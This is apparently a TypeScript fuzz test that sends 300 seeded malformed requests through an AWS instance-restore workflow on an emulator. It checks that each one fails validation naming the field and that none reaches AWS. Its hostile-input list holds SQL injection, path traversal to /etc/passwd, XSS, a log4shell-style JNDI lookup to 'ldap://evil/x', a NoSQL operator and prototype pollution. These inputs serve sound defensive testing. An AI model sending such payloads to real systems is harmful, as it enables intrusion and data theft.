/**
 * Hundreds of generated malformed requests through the real workflow on the emulator: each must
 * end as InvalidInputError naming the field, none may crash a handler, and none may reach AWS.
 * The generator is seeded, so a failure reproduces.
 */
import { seededRandom } from '@local/faults';
import { DEMO } from '@test/helpers/scenarios';
import { explain, type Harness, startHarness, type WorkflowRun } from '@test/helpers/workflow-run';

/** Field paths the generator corrupts, with the name the error must mention. */
const FIELDS: readonly (readonly string[])[] = [
  ['instanceId'],
  ['resourceArn'],
  ['recoveryPointArn'],
  ['restorePointBefore'],
  ['backupVaultName'],
  ['overrides', 'subnetId'],
  ['overrides', 'securityGroupIds'],
  ['overrides', 'instanceType'],
  ['overrides', 'requireImdsV2'],
  ['instanceProfile'],
  ['publicIp'],
  ['ssh', 'enabled'],
  ['ssh', 'username'],
  ['ssh', 'port'],
  ['ssh', 'target'],
  ['ssh', 'timeoutSeconds'],
  ['ssh', 'privateKeyParameter'],
  ['mode'],
  ['dryRun'],
  ['restoreTimeoutMinutes'],
  ['tags'],
];

const HOSTILE: readonly unknown[] = [
  "'; DROP TABLE instances; --",
  '../../../etc/passwd',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, meant literally
  '${jndi:ldap://evil/x}',
  '\u0000\u0001\u001b[31m',
  'i-0123456789abcdef0\n',
  ' ',
  '',
  'x'.repeat(100_000),
  '🔥'.repeat(500),
  -1,
  0,
  1e308,
  2 ** 53 + 1,
  3.5,
  true,
  null,
  [],
  [1, 2, 3],
  {},
  { $ne: null },
  { __proto__: { polluted: true } },
];

function setPath(target: Record<string, unknown>, path: readonly string[], value: unknown): void {
  let node = target;
  for (const key of path.slice(0, -1)) {
    node[key] = typeof node[key] === 'object' && node[key] !== null ? node[key] : {};
    node = node[key] as Record<string, unknown>;
  }
  node[path[path.length - 1] as string] = value;
}

interface Case {
  readonly input: unknown;
  /** Text the error's cause must contain. */
  readonly names: string;
}

/** Values some fields accept, which would make a "malformed" case valid; skip them. */
function acceptable(path: readonly string[], value: unknown): boolean {
  const field = path.join('.');
  if (typeof value === 'boolean') return ['overrides.requireImdsV2', 'ssh.enabled', 'dryRun'].includes(field);
  if (value === null) return field === 'ssh.privateKeyParameter';
  if (
    typeof value === 'object' &&
    value !== null &&
    !Array.isArray(value) &&
    Object.keys(value).length === 0
  ) {
    return field === 'tags';
  }
  return false;
}

function generateCases(count: number): Case[] {
  const random = seededRandom(20261129);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const cases: Case[] = [
    { input: {}, names: 'instanceId' },
    { input: { mode: 'test' }, names: 'instanceId' },
    { input: { instanceId: DEMO.instance, unexpected: 1 }, names: 'unexpected' },
    { input: { instanceId: DEMO.instance, ssh: { port: 22, shell: '/bin/sh' } }, names: 'ssh.shell' },
    { input: { instanceId: DEMO.instance, tags: { 'aws:owner': 'x' } }, names: 'tags' },
    {
      input: {
        instanceId: DEMO.instance,
        tags: Object.fromEntries([...Array(21)].map((_, i) => [`k${i}`, 'v'])),
      },
      names: 'tags',
    },
    {
      input: {
        instanceId: DEMO.instance,
        resourceArn: 'arn:aws:ec2:us-east-1:123456789012:instance/i-0123456789abcdef0',
      },
      names: 'resourceArn',
    },
  ];
  while (cases.length < count) {
    const path = pick(FIELDS);
    const value = pick(HOSTILE);
    if (acceptable(path, value)) continue;
    const input: Record<string, unknown> = { instanceId: DEMO.instance };
    setPath(input, path, value);
    cases.push({ input, names: path[0] === 'tags' ? 'tags' : path.join('.') });
  }
  return cases;
}

let harness: Harness;
beforeAll(async () => {
  // Counts the workflow's own AWS calls: without the janitor, which looks at every FAILED execution.
  harness = await startHarness({}, { events: false });
});
afterAll(() => harness.stop());

it('rejects every generated malformed request with InvalidInputError naming the field, before any AWS call', async () => {
  const cases = generateCases(300);
  const results: { c: Case; r: WorkflowRun }[] = [];
  for (let i = 0; i < cases.length; i += 25) {
    const batch = cases.slice(i, i + 25);
    results.push(
      ...(await Promise.all(batch.map(async (c) => ({ c, r: await harness.run(c.input as never) })))),
    );
  }

  for (const { c, r } of results) {
    explain(r, () => {
      expect({ input: JSON.stringify(c.input).slice(0, 200), error: r.error }).toEqual({
        input: JSON.stringify(c.input).slice(0, 200),
        error: 'InvalidInputError',
      });
      expect(r.cause).toContain(c.names);
      // Hostile input is never echoed whole.
      expect(r.cause?.length ?? 0).toBeLessThan(4000);
    });
  }
  expect(harness.apiCalls.filter((call) => !call.startsWith('sfn:'))).toEqual([]);
  expect([...harness.emulator.invocations.keys()].sort()).toEqual(['handle-failure', 'validate-input']);
  expect(harness.emulator.invocations.get('validate-input')).toBe(cases.length);
  // 300 executions: about 4 s alone, but 30 s and more on 2 cores beside the fault matrix in CI.
}, 180_000);
